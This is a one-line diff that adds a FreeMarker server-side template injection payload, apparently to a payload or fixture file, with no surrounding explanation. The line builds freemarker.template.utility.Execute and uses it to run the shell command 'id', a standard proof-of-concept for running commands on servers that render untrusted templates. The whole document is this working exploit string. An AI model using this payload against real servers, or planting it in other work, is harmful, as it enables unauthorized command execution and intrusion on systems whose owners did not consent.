@@ -1,0 +1,1 @@
+<#assign runner = "freemarker.template.utility.Execute"?new()>${runner("id")}
